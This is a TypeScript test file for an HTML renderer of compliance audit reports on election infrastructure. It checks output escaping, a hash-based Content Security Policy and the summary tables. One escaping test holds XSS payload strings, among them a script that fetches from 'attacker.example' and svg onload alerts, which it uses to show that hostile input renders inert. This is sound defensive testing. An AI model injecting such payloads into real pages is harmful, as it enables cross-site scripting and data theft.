import { createHash } from 'crypto';
import { escapeHtml, renderHtml } from '../../lib/reports/html';
import { hostileAuditReport, sampleAuditReport } from '../fixtures/audit-report';

const inlineBlock = (html: string, tag: 'script' | 'style'): string => new RegExp(`<${tag}>([\\s\\S]*?)</${tag}>`).exec(html)![1];
const hashOf = (text: string): string => `sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}`;

describe('renderHtml', () => {
  test('escapes every character that could open markup or leave an attribute', () => {
    expect(escapeHtml('<a href="x">\'&\'</a>')).toBe('&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;');
  });

  test('renders template-controlled text (logical ids, reasons, paths, types) as text, never as markup', () => {
    const html = renderHtml(hostileAuditReport());
    expect(html.match(/<script\b/g)).toHaveLength(1);
    expect(html).not.toMatch(/<script>(alert|fetch)/);
    expect(html).not.toMatch(/<(img|svg onload|b>odd|\/td><script)/);
    expect(html).toContain('Evil&lt;script&gt;alert(&quot;id&quot;)&lt;/script&gt;Bucket');
    expect(html).toContain('&lt;/td&gt;&lt;script&gt;fetch(&quot;https://attacker.example/x&quot;)&lt;/script&gt;');
    expect(html).toContain('data-stack="odd&quot;stack&#39;"');
    expect(html).toContain('AWS::S3::Bucket&lt;svg onload=alert(1)&gt;');
  });

  test('loads nothing from elsewhere, and a CSP allows only its own inline style and script, by hash', () => {
    const html = renderHtml(sampleAuditReport());
    expect(html).not.toMatch(/<(link|img|iframe|object|embed|base)\b/i);
    expect(html).not.toMatch(/\s(src|href|action)=/i);
    expect(html).not.toMatch(/@import|url\(/i);
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)![1];
    expect(csp).toContain('default-src &#39;none&#39;');
    expect(csp).toContain(hashOf(inlineBlock(html, 'script')));
    expect(csp).toContain(hashOf(inlineBlock(html, 'style')));
    expect(csp).not.toContain('unsafe-inline');
  });

  test('summarizes the counts, and by control family, stack and data class', () => {
    const html = renderHtml(sampleAuditReport());
    expect(html).toMatch(/<div class="card error"><b>5<\/b>Errors/);
    expect(html).toMatch(/<div class="card warning"><b>1<\/b>Warnings/);
    expect(html).toMatch(/<div class="card ack"><b>2<\/b>Acknowledged/);
    const row = (table: string, key: string) => new RegExp(`<table id="${table}">[\\s\\S]*?<tr><td>${key}</td>((?:<td class="num">\\d+</td>){3})</tr>`).exec(html)?.[1].match(/\d+/g);
    // AU: two open errors (AU-9(2): records lock, replication), one open warning and one acknowledged (AU-2/AU-12).
    expect(row('by-family', 'AU')).toEqual(['2', '1', '1']);
    expect(row('by-family', '52-USC-20701')).toEqual(['1', '0', '0']);
    expect(row('by-family', 'CPG-2')).toEqual(['1', '1', '1']);
    expect(row('by-stack', 'county-results')).toEqual(['2', '0', '0']);
    expect(row('by-stack', 'ElectionResults')).toEqual(['1', '0', '2']);
    expect(row('by-data-class', 'voter-pii')).toEqual(['0', '1', '0']);
    expect(row('by-data-class', 'election-records')).toEqual(['2', '0', '0']);
  });

  test('charts findings per control family as inline SVG bars', () => {
    const html = renderHtml(sampleAuditReport());
    const chart = /<svg id="family-chart"[\s\S]*?<\/svg>/.exec(html)![0];
    const families = [...chart.matchAll(/data-family="([^"]+)"/g)].map((m) => m[1]);
    expect(families).toEqual(['(no control)', '52-USC-20701', 'AU', 'CP', 'CPG-2', 'SC', 'SI']);
    expect(chart).toContain('<title>AU: 3 open, 1 acknowledged</title>');
  });

  test('lists every finding with its filter keys, and every waiver with reason, where made and problem', () => {
    const report = sampleAuditReport();
    const html = renderHtml(report);
    const rows = [...html.matchAll(/<tr data-level="([^"]+)" data-stack="([^"]+)" data-rule="([^"]+)">/g)].map((m) => m.slice(1));
    expect(rows).toEqual(report.findings.map((f) => [f.level, f.stack, f.ruleId]));
    expect(html).toContain('AwsSolutions-IAM5 [Action::s3:*]');
    const waivers = /<table id="waivers">[\s\S]*?<\/table>/.exec(html)![0];
    for (const waiver of report.waivers) {
      expect(waivers).toContain(escapeHtml(waiver.reason));
      expect(waivers).toContain(escapeHtml(waiver.madeAt));
    }
    expect(waivers).toMatch(/<td class="problem">ElectionBaseline-S3RecordsObjectLock cannot be waived/);
    expect(html).toMatch(/<select data-filter="level" id="filter-level"><option value="">All<\/option><option value="error">error<\/option><option value="warning">warning<\/option><\/select>/);
  });
});
